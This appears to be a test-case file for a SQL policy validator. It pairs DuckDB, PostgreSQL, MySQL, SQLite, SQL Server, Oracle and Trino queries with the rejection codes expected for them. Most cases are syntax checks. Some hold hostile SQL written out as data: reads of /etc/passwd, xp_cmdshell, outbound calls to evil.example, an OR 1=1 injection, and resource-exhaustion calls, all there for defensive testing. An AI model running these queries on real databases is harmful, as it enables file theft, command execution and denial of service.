# Tables that are not of the policy, in every place where a table can stand
= table_not_allowed
SELECT coalesce(name, (SELECT pay FROM payroll)) FROM customers

# Tables that are not of the policy, in every place where a table can stand
= table_not_allowed
SELECT CASE (SELECT pay FROM payroll) WHEN 1 THEN 2 END

# Tables that are not of the policy, in every place where a table can stand
= table_not_allowed
SELECT count(*) FILTER (WHERE 1 = (SELECT pay FROM payroll)) FROM customers

# Tables that are not of the policy, in every place where a table can stand
= table_not_allowed
SELECT sum(price) OVER (PARTITION BY (SELECT pay FROM payroll)) FROM products

# Tables that are not of the policy, in every place where a table can stand
= table_not_allowed
SELECT * FROM (VALUES ((SELECT pay FROM payroll))) v(x)

# Tables that are not of the policy, in every place where a table can stand
= table_not_allowed
SELECT * FROM customers c, LATERAL (SELECT * FROM payroll p WHERE p.id = c.customer_id) x

# Tables that are not of the policy, in every place where a table can stand
= table_not_allowed
SELECT * FROM customer

# Tables that are not of the policy, in every place where a table can stand
= table_not_allowed
SELECT * FROM stafff

# Tables that are not of the policy, in every place where a table can stand
= table_not_allowed
SELECT * FROM Orders_

# Names of WITH that could stand for something of the system
= name_not_allowed
~ only the text shows it
WITH duckdb_settings AS (SELECT 1) SELECT * FROM duckdb_settings

# Names of WITH that could stand for something of the system
= name_not_allowed
~ only the text shows it
WITH pg_class AS (SELECT 1) SELECT * FROM pg_class

# Names of WITH that could stand for something of the system
= name_not_allowed
~ only the text shows it
WITH "x.csv" AS (SELECT 1) SELECT * FROM "x.csv"

# Names of WITH that could stand for something of the system
= name_not_allowed
~ only the text shows it
WITH "/etc/passwd" AS (SELECT 1) SELECT * FROM "/etc/passwd"

# Resource bombs: one call that makes gigabytes or takes minutes (facts/duckdb: measured)
= function_unbounded
SELECT repeat('x', 4000000000)

# Resource bombs: one call that makes gigabytes or takes minutes (facts/duckdb: measured)
= bound_not_literal
SELECT lpad('x', 2000000000, 'y')

# Resource bombs: one call that makes gigabytes or takes minutes (facts/duckdb: measured)
= bound_not_literal
SELECT rpad(name, 101, ' ') FROM customers

# Resource bombs: one call that makes gigabytes or takes minutes (facts/duckdb: measured)
= bound_not_literal
SELECT lpad(name, birth_year, ' ') FROM customers

# Resource bombs: one call that makes gigabytes or takes minutes (facts/duckdb: measured)
= bound_not_literal
SELECT lpad(name, 5 * 1000000, ' ') FROM customers

# Resource bombs: one call that makes gigabytes or takes minutes (facts/duckdb: measured)
= bound_not_literal
SELECT lpad(name, (SELECT 1000000000), ' ') FROM customers

# Resource bombs: one call that makes gigabytes or takes minutes (facts/duckdb: measured)
= bound_not_literal
SELECT lpad(name, -1, ' ') FROM customers

# Resource bombs: one call that makes gigabytes or takes minutes (facts/duckdb: measured)
= bound_not_literal
SELECT lpad(name) FROM customers

# Resource bombs: one call that makes gigabytes or takes minutes (facts/duckdb: measured)
= syntax
SELECT rpad() FROM customers

# Resource bombs: one call that makes gigabytes or takes minutes (facts/duckdb: measured)
= function_unbounded
SELECT levenshtein(repeat('a', 100000), repeat('b', 100000))

# Resource bombs: one call that makes gigabytes or takes minutes (facts/duckdb: measured)
= function_unbounded
SELECT damerau_levenshtein(name, email) FROM customers

# Resource bombs: one call that makes gigabytes or takes minutes (facts/duckdb: measured)
= function_unbounded
SELECT jaccard(name, email) FROM customers

# Resource bombs: one call that makes gigabytes or takes minutes (facts/duckdb: measured)
= function_unbounded
SELECT jaro_winkler_similarity(name, email) FROM customers

# Resource bombs: one call that makes gigabytes or takes minutes (facts/duckdb: measured)
= table_function_not_allowed
SELECT * FROM range(1000000000000)

# Resource bombs: one call that makes gigabytes or takes minutes (facts/duckdb: measured)
= table_function_not_allowed
SELECT * FROM generate_series(1, 1000000000000)

# Resource bombs: one call that makes gigabytes or takes minutes (facts/duckdb: measured)
= function_unbounded
SELECT generate_series(1, 1000000000)

# Resource bombs: one call that makes gigabytes or takes minutes (facts/duckdb: measured)
= function_unbounded
SELECT list_sort(range(300000000))

# Resource bombs: one call that makes gigabytes or takes minutes (facts/duckdb: measured)
= function_unbounded
SELECT list(name) FROM customers

# Resource bombs: one call that makes gigabytes or takes minutes (facts/duckdb: measured)
= function_unbounded
SELECT array_agg(name) FROM customers

# Resource bombs: one call that makes gigabytes or takes minutes (facts/duckdb: measured)
= function_unbounded
SELECT unnest(name) FROM customers

# Resource bombs: one call that makes gigabytes or takes minutes (facts/duckdb: measured)
= table_function_not_allowed
SELECT * FROM unnest(1)

# Resource bombs: one call that makes gigabytes or takes minutes (facts/duckdb: measured)
= table_function_not_allowed
SELECT * FROM customers, LATERAL unnest(name)

# Resource bombs: one call that makes gigabytes or takes minutes (facts/duckdb: measured)
= function_unbounded
SELECT format('{:1000000000}', 1)

# Resource bombs: one call that makes gigabytes or takes minutes (facts/duckdb: measured)
= function_unbounded
SELECT printf('%1000000000d', 1)

# Resource bombs: one call that makes gigabytes or takes minutes (facts/duckdb: measured)
= function_unbounded
SELECT bar(1, 0, 1, 1000000000)

# Resource bombs: one call that makes gigabytes or takes minutes (facts/duckdb: measured)
= function_unbounded
SELECT bitstring('1', 1000000000)

# Resource bombs: one call that makes gigabytes or takes minutes (facts/duckdb: measured)
= function_unbounded
SELECT max(name, 1000000000) FROM customers

# Resource bombs: one call that makes gigabytes or takes minutes (facts/duckdb: measured)
= function_unbounded
SELECT arg_max(name, price, 1000000000) FROM products

# Resource bombs: one call that makes gigabytes or takes minutes (facts/duckdb: measured)
= function_not_allowed
SELECT approx_top_k(name, 1000000000) FROM customers

# Resource bombs: one call that makes gigabytes or takes minutes (facts/duckdb: measured)
= function_unbounded
SELECT histogram(name) FROM customers

# Resource bombs: one call that makes gigabytes or takes minutes (facts/duckdb: measured)
= function_not_allowed
SELECT sha256(name) FROM customers

# Resource bombs: one call that makes gigabytes or takes minutes (facts/duckdb: measured)
= function_not_allowed
SELECT random() FROM customers

# Resource bombs: one call that makes gigabytes or takes minutes (facts/duckdb: measured)
= function_not_allowed
SELECT uuid()

# Resource bombs: one call that makes gigabytes or takes minutes (facts/duckdb: measured)
= function_not_allowed
SELECT gen_random_uuid()

# Resource bombs: one call that makes gigabytes or takes minutes (facts/duckdb: measured)
= construct_not_allowed
WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r

# Resource bombs: one call that makes gigabytes or takes minutes (facts/duckdb: measured)
= construct_not_allowed
~ another spelling of what is allowed
WITH RECURSIVE r AS (SELECT 1) SELECT * FROM r

# Resource bombs: long and deep statements
= too_many_terms
SELECT \R(1+,2000\)1

# Resource bombs: long and deep statements
= too_many_terms
~ only the text shows it
SELECT \R(1+,70\)1

# Resource bombs: long and deep statements
= too_many_terms
SELECT 'a'\R(||'a',300\)

# Resource bombs: long and deep statements
= too_long
~ only the text shows it
SELECT name FROM customers WHERE \R(customer_id = 1 OR ,1200\)1 = 1

# Resource bombs: long and deep statements
= too_many_terms
~ only the text shows it
SELECT name FROM customers WHERE \R(customer_id = 1 OR ,300\)1 = 1

# Resource bombs: long and deep statements
= too_deep
~ only the text shows it
SELECT \R((,40\)1\R(),40\)

# Resource bombs: long and deep statements
= too_deep
SELECT \R((,3000\)

# Resource bombs: long and deep statements
= too_deep
~ only the text shows it
SELECT \R(abs(,40\)1\R(),40\)

# Resource bombs: long and deep statements
= too_deep
~ only the text shows it
SELECT \R((SELECT ,40\)1\R(),40\)

# Resource bombs: long and deep statements
= too_many_terms
SELECT \R(NOT ,200\)true

# Resource bombs: long and deep statements
= too_many_terms
~ only the text shows it
SELECT \R(- ,200\)1

# Resource bombs: long and deep statements
= too_many_terms
SELECT 1\R(::int,200\)

# Resource bombs: long and deep statements
= too_deep
~ only the text shows it
SELECT \R(CASE WHEN true THEN ,40\)1\R( END,40\)

# Resource bombs: long and deep statements
= too_many_tables
~ only the text shows it
SELECT * FROM customers \R(, customers ,40\)

# Resource bombs: long and deep statements
= too_many_tables
~ only the text shows it
SELECT * FROM customers c\R( CROSS JOIN customers,40\)

# Resource bombs: long and deep statements
= too_many_tables
~ only the text shows it
SELECT 1 \R(UNION ALL SELECT 1 ,60\)

# Resource bombs: long and deep statements
= too_many_rows
~ only the text shows it
SELECT * FROM (VALUES (1)\R(,(1),600\)) v(x)

# Resource bombs: long and deep statements
= too_many_tokens
~ only the text shows it
SELECT 1 IN (1\R(,1,2100\))

# Resource bombs: long and deep statements
= too_long
~ only the text shows it
SELECT '\R(x,17000\)'

# Resource bombs: long and deep statements
= too_long
~ only the text shows it
\R( ,17000\)SELECT 1

# Resource bombs: long and deep statements
= too_many_tables
WITH a0 AS (SELECT name FROM customers)\R(, a1 AS (SELECT * FROM a0 UNION ALL SELECT * FROM a0),20\) SELECT * FROM a1

# Resource bombs: long and deep statements
= number_wrong
~ only the text shows it
SELECT \R(9,80\)

# Resource bombs: long and deep statements
= identifier_wrong
~ only the text shows it
SELECT \R(x,300\) FROM customers

# Numbers that engines read differently
= number_wrong
~ only the text shows it
SELECT 0x1F

# Numbers that engines read differently
= number_wrong
~ only the text shows it
SELECT 1_000

# Numbers that engines read differently
= number_wrong
~ only the text shows it
SELECT 0b11

# Numbers that engines read differently
= number_wrong
~ only the text shows it
SELECT 1e

# Numbers that engines read differently
= number_wrong
~ only the text shows it
SELECT 12abc

# Numbers that engines read differently
= number_wrong
SELECT 1.2.3

# Numbers that engines read differently
= number_wrong
SELECT 1..2

# Numbers that engines read differently
= limit_not_number
~ another spelling of what is allowed
SELECT name FROM customers LIMIT 1e3

# Numbers that engines read differently
= limit_not_number
SELECT name FROM customers LIMIT 99999999999999999999999

# Parameters and variables: values that come from elsewhere
= parameter_not_allowed
SELECT * FROM customers WHERE name = ?

# Parameters and variables: values that come from elsewhere
= parameter_not_allowed
SELECT * FROM customers WHERE name = $1

# Parameters and variables: values that come from elsewhere
= parameter_not_allowed
SELECT * FROM customers WHERE name = $name

# Parameters and variables: values that come from elsewhere
= parameter_not_allowed
SELECT * FROM customers WHERE name = :name

# Parameters and variables: values that come from elsewhere
= parameter_not_allowed
SELECT @@version

# Parameters and variables: values that come from elsewhere
= parameter_not_allowed
SELECT @x := 1

# Parameters and variables: values that come from elsewhere
= character_not_allowed
SELECT {fn now()}

# Parameters and variables: values that come from elsewhere
= parameter_not_allowed
SELECT ${jndi}

# DuckDB's own constructs that are not needed to answer a question
= character_not_allowed
SELECT [1, 2, 3]

# DuckDB's own constructs that are not needed to answer a question
= character_not_allowed
SELECT {'a': 1}

# DuckDB's own constructs that are not needed to answer a question
= character_not_allowed
SELECT MAP {'a': 1}

# DuckDB's own constructs that are not needed to answer a question
= character_not_allowed
SELECT ARRAY[1, 2]

# DuckDB's own constructs that are not needed to answer a question
= character_not_allowed
SELECT name[1] FROM customers

# DuckDB's own constructs that are not needed to answer a question
= character_not_allowed
SELECT name[1:3] FROM customers

# DuckDB's own constructs that are not needed to answer a question
= operator_not_allowed
SELECT list_transform(x, y -> y + 1) FROM customers

# DuckDB's own constructs that are not needed to answer a question
= operator_not_allowed
SELECT list_filter(x, lambda y : y > 1) FROM customers

# DuckDB's own constructs that are not needed to answer a question
= character_not_allowed
SELECT [x + 1 FOR x IN (1, 2)]

# DuckDB's own constructs that are not needed to answer a question
= function_not_allowed
SELECT COLUMNS('n.*') FROM customers

# DuckDB's own constructs that are not needed to answer a question
= function_not_allowed
SELECT COLUMNS(*) FROM customers

# DuckDB's own constructs that are not needed to answer a question
= operator_not_allowed
SELECT COLUMNS(c -> c LIKE 'n%') FROM customers

# DuckDB's own constructs that are not needed to answer a question
= construct_not_allowed
SELECT *COLUMNS('n.*') FROM customers

# DuckDB's own constructs that are not needed to answer a question
= function_not_allowed
SELECT sum(COLUMNS(*)) FROM order_lines

# DuckDB's own constructs that are not needed to answer a question
= construct_not_allowed
SELECT * REPLACE (1 AS name) FROM customers

# DuckDB's own constructs that are not needed to answer a question
= construct_not_allowed
SELECT * RENAME (name AS n) FROM customers

# DuckDB's own constructs that are not needed to answer a question
= syntax
~ another spelling of what is allowed
SELECT * LIKE 'n%' FROM customers

# DuckDB's own constructs that are not needed to answer a question
= operator_not_allowed
~ another spelling of what is allowed
SELECT n: name FROM customers

# DuckDB's own constructs that are not needed to answer a question
= operator_not_allowed
SELECT payload -> '$.a' FROM events

# DuckDB's own constructs that are not needed to answer a question
= operator_not_allowed
SELECT payload ->> 'a' FROM events

# DuckDB's own constructs that are not needed to answer a question
= function_not_allowed
SELECT name.upper() FROM customers

# DuckDB's own constructs that are not needed to answer a question
= syntax
SELECT 'x'.upper()

# DuckDB's own constructs that are not needed to answer a question
= construct_not_allowed
SELECT name FROM customers TABLESAMPLE 10%

# DuckDB's own constructs that are not needed to answer a question
= construct_not_allowed
SELECT name FROM customers TABLESAMPLE reservoir(10)

# DuckDB's own constructs that are not needed to answer a question
= construct_not_allowed
SELECT name FROM customers USING SAMPLE 10

# DuckDB's own constructs that are not needed to answer a question
= syntax
SELECT name FROM customers LIMIT 10%

# DuckDB's own constructs that are not needed to answer a question
= limit_not_number
SELECT name FROM customers LIMIT (SELECT 10)

# DuckDB's own constructs that are not needed to answer a question
= limit_not_number
SELECT name FROM customers LIMIT customer_id

# DuckDB's own constructs that are not needed to answer a question
= construct_not_allowed
SELECT * FROM customers POSITIONAL JOIN staff

# DuckDB's own constructs that are not needed to answer a question
= operator_not_allowed
SELECT * FROM customers AT (VERSION => 1)

# DuckDB's own constructs that are not needed to answer a question
= statement_not_allowed
PIVOT orders ON status USING count(*)

# DuckDB's own constructs that are not needed to answer a question
= construct_not_allowed
SELECT * FROM (PIVOT orders ON status USING count(*))

# DuckDB's own constructs that are not needed to answer a question
= construct_not_allowed
SELECT * FROM orders PIVOT (count(*) FOR status IN ('a', 'b'))

# DuckDB's own constructs that are not needed to answer a question
= statement_not_allowed
UNPIVOT products ON price, cost INTO NAME n VALUE v

# DuckDB's own constructs that are not needed to answer a question
= construct_not_allowed
SELECT * FROM products UNPIVOT (v FOR n IN (price, cost))

# DuckDB's own constructs that are not needed to answer a question
= syntax
SELECT name FROM customers UNION BY NAME SELECT full_name FROM staff

# DuckDB's own constructs that are not needed to answer a question
= function_not_allowed
SELECT try(1 / 0)

# DuckDB's own constructs that are not needed to answer a question
= operator_not_allowed
~ another spelling of what is allowed
SELECT name FROM customers WHERE name ~ 'x'

# DuckDB's own constructs that are not needed to answer a question
= operator_not_allowed
~ another spelling of what is allowed
SELECT name FROM customers WHERE name !~ 'x'

# DuckDB's own constructs that are not needed to answer a question
= parameter_not_allowed
SELECT name FROM customers WHERE name ^@ 'x'

# DuckDB's own constructs that are not needed to answer a question
= parameter_not_allowed
SELECT name FROM customers WHERE name @> 'x'

# DuckDB's own constructs that are not needed to answer a question
= operator_not_allowed
SELECT 1 & 2

# DuckDB's own constructs that are not needed to answer a question
= operator_not_allowed
SELECT 1 | 2

# DuckDB's own constructs that are not needed to answer a question
= syntax
SELECT 1 << 2

# DuckDB's own constructs that are not needed to answer a question
= operator_not_allowed
SELECT ~1

# DuckDB's own constructs that are not needed to answer a question
= operator_not_allowed
SELECT !true

# DuckDB's own constructs that are not needed to answer a question
= operator_not_allowed
SELECT 5!

# DuckDB's own constructs that are not needed to answer a question
= construct_not_allowed
SELECT name FROM customers ORDER BY name USING <

# DuckDB's own constructs that are not needed to answer a question
= syntax
SELECT sum(price) OVER (ORDER BY price ROWS 1 PRECEDING EXCLUDE EVERYTHING) FROM products

# DuckDB's own constructs that are not needed to answer a question
= operator_not_allowed
~ another spelling of what is allowed
SELECT round(x := 1.5)

# DuckDB's own constructs that are not needed to answer a question
= operator_not_allowed
~ another spelling of what is allowed
SELECT make_date(year => 2024)

# DuckDB's own constructs that are not needed to answer a question
= construct_not_allowed
SELECT DEFAULT

# DuckDB's own constructs that are not needed to answer a question
= collation_not_allowed
SELECT name COLLATE de FROM customers

# Casts to types that read, look names up or have no bound
= type_not_allowed
SELECT 'staff'::regclass

# Casts to types that read, look names up or have no bound
= type_not_allowed
SELECT name::BLOB FROM customers

# Casts to types that read, look names up or have no bound
= character_not_allowed
SELECT '[1]'::INT[]

# Casts to types that read, look names up or have no bound
= type_not_allowed
SELECT '{}'::JSON

# Casts to types that read, look names up or have no bound
= type_not_allowed
SELECT CAST(name AS STRUCT(a INT)) FROM customers

# Casts to types that read, look names up or have no bound
= type_not_allowed
SELECT CAST(name AS MAP(INT, INT)) FROM customers

# Casts to types that read, look names up or have no bound
= type_not_allowed
SELECT CAST(name AS mytype) FROM customers

# Casts to types that read, look names up or have no bound
= type_not_allowed
SELECT CAST(name AS main.mytype) FROM customers

# Casts to types that read, look names up or have no bound
= type_not_allowed
SELECT CAST(name AS ENUM('a')) FROM customers

# Casts to types that read, look names up or have no bound
= type_not_allowed
SELECT CAST(name AS BIT) FROM customers

# Casts to types that read, look names up or have no bound
= type_not_allowed
SELECT name::customers FROM customers

# Casts to types that read, look names up or have no bound
= type_not_allowed
SELECT TRY_CAST(name AS VARIANT) FROM customers

# Casts to types that read, look names up or have no bound
= syntax
SELECT json '{}'

# Casts to types that read, look names up or have no bound
= syntax
SELECT CAST(name AS) FROM customers

# Casts to types that read, look names up or have no bound
= syntax
SELECT CAST(price AS DECIMAL(1, 2, 3)) FROM products

# Casts to types that read, look names up or have no bound
= syntax
SELECT CAST(name, VARCHAR) FROM customers

# PostgreSQL specials
= function_reads_files
SELECT pg_read_file('/etc/passwd')

# PostgreSQL specials
= function_reads_files
SELECT pg_ls_dir('/')

# PostgreSQL specials
= function_reads_system
SELECT pg_sleep(100)

# PostgreSQL specials
= function_reads_system
SELECT pg_terminate_backend(1)

# PostgreSQL specials
= function_reads_system
SELECT set_config('x', 'y', false)

# PostgreSQL specials
= function_reads_system
SELECT query_to_xml('select 1', true, true, '')

# PostgreSQL specials
= function_reads_system
SELECT * FROM dblink('host=evil', 'select 1') AS t(x int)

# PostgreSQL specials
= construct_not_allowed
~ another spelling of what is allowed
SELECT * FROM ONLY staff

# PostgreSQL specials
= construct_not_allowed
SELECT name FROM customers FOR UPDATE

# PostgreSQL specials
= construct_not_allowed
SELECT name FROM customers FOR SHARE NOWAIT

# PostgreSQL specials
= table_not_allowed
SELECT * FROM ROWS FROM (generate_series(1, 2)) AS t

# PostgreSQL specials
= syntax
SELECT (customers).name FROM customers

# PostgreSQL specials
= syntax
SELECT name FROM customers WHERE name SIMILAR 'x'

# PostgreSQL specials
= statement_not_allowed
LISTEN channel

# PostgreSQL specials
= statement_not_allowed
NOTIFY channel

# PostgreSQL specials
= statement_not_allowed
DO 'BEGIN END'

# PostgreSQL specials
= syntax
SELECT name FROM customers WHERE CURRENT OF cursor

# PostgreSQL specials
= function_not_allowed
SELECT xmlelement(name x)

# PostgreSQL specials
= function_not_allowed
SELECT OVERLAY(name PLACING 'x' FROM 1) FROM customers

# MySQL specials (Domo's SQL is near to it)
= syntax
SELECT name FROM customers LIMIT 5, 10

# MySQL specials (Domo's SQL is near to it)
= function_unbounded
SELECT BENCHMARK(1000000000, 1)

# MySQL specials (Domo's SQL is near to it)
= function_reads_system
SELECT SLEEP(10)

# MySQL specials (Domo's SQL is near to it)
= construct_not_allowed
SELECT name FROM customers WHERE name REGEXP 'x'

# MySQL specials (Domo's SQL is near to it)
= construct_not_allowed
SELECT name FROM customers WHERE name RLIKE 'x'

# MySQL specials (Domo's SQL is near to it)
= syntax
SELECT 5 DIV 2

# MySQL specials (Domo's SQL is near to it)
= syntax
SELECT 5 MOD 2

# MySQL specials (Domo's SQL is near to it)
= syntax
SELECT true XOR false

# MySQL specials (Domo's SQL is near to it)
= syntax
SELECT GROUP_CONCAT(name SEPARATOR ', ') FROM customers

# MySQL specials (Domo's SQL is near to it)
= construct_not_allowed
SELECT country, count(*) FROM customers GROUP BY country WITH ROLLUP

# MySQL specials (Domo's SQL is near to it)
= syntax
SELECT name FROM customers PROCEDURE ANALYSE()

# MySQL specials (Domo's SQL is near to it)
= syntax
SELECT name FROM customers LOCK IN SHARE MODE

# MySQL specials (Domo's SQL is near to it)
= syntax
SELECT BINARY name FROM customers

# MySQL specials (Domo's SQL is near to it)
= function_not_allowed
SELECT MATCH (name) AGAINST ('x') FROM customers

# MySQL specials (Domo's SQL is near to it)
= function_not_allowed
SELECT CONVERT(name USING utf8) FROM customers

# MySQL specials (Domo's SQL is near to it)
= statement_not_allowed
HANDLER customers OPEN

# MySQL specials (Domo's SQL is near to it)
= statement_not_allowed
LOAD DATA INFILE '/etc/passwd' INTO TABLE customers

# MySQL specials (Domo's SQL is near to it)
= statement_not_allowed
REPLACE INTO customers VALUES (1)

# MySQL specials (Domo's SQL is near to it)
= statement_not_allowed
SHOW VARIABLES

# MySQL specials (Domo's SQL is near to it)
= function_reads_system
SELECT DATABASE()

# MySQL specials (Domo's SQL is near to it)
= function_reads_system
SELECT USER()

# MySQL specials (Domo's SQL is near to it)
= comment_not_allowed
~ only the text shows it
SELECT name FROM customers WHERE name = 'x' OR 1=1 -- -

# SQLite specials
= function_reads_system
SELECT load_extension('evil')

# SQLite specials
= function_reads_files
SELECT readfile('/etc/passwd')

# SQLite specials
= function_reads_files
SELECT writefile('/tmp/x', 'y')

# SQLite specials
= function_reads_files
SELECT edit('x')

# SQLite specials
= function_unbounded
SELECT randomblob(1000000000)

# SQLite specials
= function_unbounded
SELECT zeroblob(1000000000)

# SQLite specials
= function_not_allowed
SELECT fts3_tokenizer('x')

# SQLite specials
= table_not_allowed
SELECT * FROM pragma_table_list

# SQLite specials
= table_not_allowed
SELECT * FROM dbstat

# SQLite specials
= syntax
SELECT name FROM customers INDEXED BY i

# SQLite specials
= construct_not_allowed
SELECT name FROM customers WHERE name MATCH 'x'

# SQL Server and Oracle specials
= statement_not_allowed
EXEC xp_cmdshell 'id'

# SQL Server and Oracle specials
= function_reads_files
SELECT * FROM OPENROWSET(BULK '/etc/passwd', SINGLE_CLOB) AS x

# SQL Server and Oracle specials
= syntax
SELECT TOP 10 name FROM customers

# SQL Server and Oracle specials
= construct_not_allowed
SELECT name FROM customers WITH (NOLOCK)

# SQL Server and Oracle specials
= function_not_allowed
SELECT utl_http.request('http://evil.example') FROM dual

# SQL Server and Oracle specials
= syntax
SELECT * FROM customers CONNECT BY PRIOR customer_id = birth_year

# SQL Server and Oracle specials
= syntax
SELECT name FROM customers OPTION (MAXRECURSION 0)

# SQL Server and Oracle specials
= syntax
SELECT * FROM customers MATCH_RECOGNIZE (PATTERN (a))

# Trino specials
= table_function_not_allowed
SELECT * FROM TABLE(sequence(1, 1000000))

# Trino specials
= operator_not_allowed
SELECT * FROM TABLE(system.query(query => 'SELECT 1'))

# Trino specials
= schema_not_allowed
SELECT * FROM hive.default.customers

# Trino specials
= construct_not_allowed
SELECT * FROM customers FOR VERSION AS OF 1

# Trino specials
= table_function_not_allowed
SELECT x FROM customers CROSS JOIN UNNEST(name) WITH ORDINALITY AS t (x, n)

# Trino specials
= operator_not_allowed
SELECT transform(x, y -> y) FROM customers

# Not SQL, or not all of it
= parameter_not_allowed
What is the total revenue?

# Not SQL, or not all of it
= syntax
SELECT

# Not SQL, or not all of it
= syntax
SELECT FROM customers

# Not SQL, or not all of it
= syntax
SELECT name FROM

# Not SQL, or not all of it
= syntax
SELECT name FROM customers WHERE

# Not SQL, or not all of it
= syntax
~ another spelling of what is allowed
SELECT name, FROM customers

# Not SQL, or not all of it
= syntax
SELECT name FROM customers GROUP name

# Not SQL, or not all of it
= unbalanced
SELECT (name FROM customers

# Not SQL, or not all of it
= unbalanced
SELECT name) FROM customers

# Not SQL, or not all of it
= syntax
SELECT name FROM customers AND

# Not SQL, or not all of it
= syntax
SELECT CASE END

# Not SQL, or not all of it
= syntax
SELECT CASE WHEN true THEN 1

# Not SQL, or not all of it
= syntax
SELECT CASE 1 ELSE 2 END

# Not SQL, or not all of it
= syntax
SELECT name FROM customers JOIN

# Not SQL, or not all of it
= syntax
SELECT name FROM customers LEFT orders

# Not SQL, or not all of it
= syntax
SELECT name name2 name3 FROM customers

# Not SQL, or not all of it
= syntax
SELECT () FROM customers

# Not SQL, or not all of it
= syntax
SELECT name FROM customers WHERE name IN ()

# Not SQL, or not all of it
= syntax
SELECT name FROM customers WHERE name IN 'x'

# Not SQL, or not all of it
= syntax
SELECT name FROM customers WHERE name NOT 'x'

# Not SQL, or not all of it
= syntax
SELECT name FROM customers WHERE name BETWEEN 1

# Not SQL, or not all of it
= syntax
SELECT name FROM customers WHERE name IS 5

# Not SQL, or not all of it
= unit_not_allowed
SELECT extract(name FROM order_date) FROM orders

# Not SQL, or not all of it
= syntax
SELECT extract(year, order_date) FROM orders

# Not SQL, or not all of it
= unit_not_allowed
~ another spelling of what is allowed
SELECT order_date + INTERVAL 1 fortnight FROM orders

# Not SQL, or not all of it
= clause_of_function
~ another spelling of what is allowed
SELECT round(price) OVER (ORDER BY price) FROM products

# Not SQL, or not all of it
= clause_of_function
~ another spelling of what is allowed
SELECT round(DISTINCT price) FROM products

# Not SQL, or not all of it
= clause_of_function
~ another spelling of what is allowed
SELECT lower(name) FILTER (WHERE true) FROM customers

# Not SQL, or not all of it
= syntax
SELECT EXISTS (name) FROM customers

# Not SQL, or not all of it
= syntax
SELECT name FROM customers select

# Not SQL, or not all of it
= syntax
SELECT select FROM customers

# Not SQL, or not all of it
= character_not_allowed
```sql SELECT 1 ```

# Not SQL, or not all of it
= operator_not_allowed
Here is the query: SELECT 1

# Not SQL, or not all of it
= character_not_allowed
{"sql": "SELECT 1"}

# Not SQL, or not all of it
= statement_not_allowed
<sql>SELECT 1</sql>

# Not SQL, or not all of it
= statement_not_allowed
sql SELECT 1
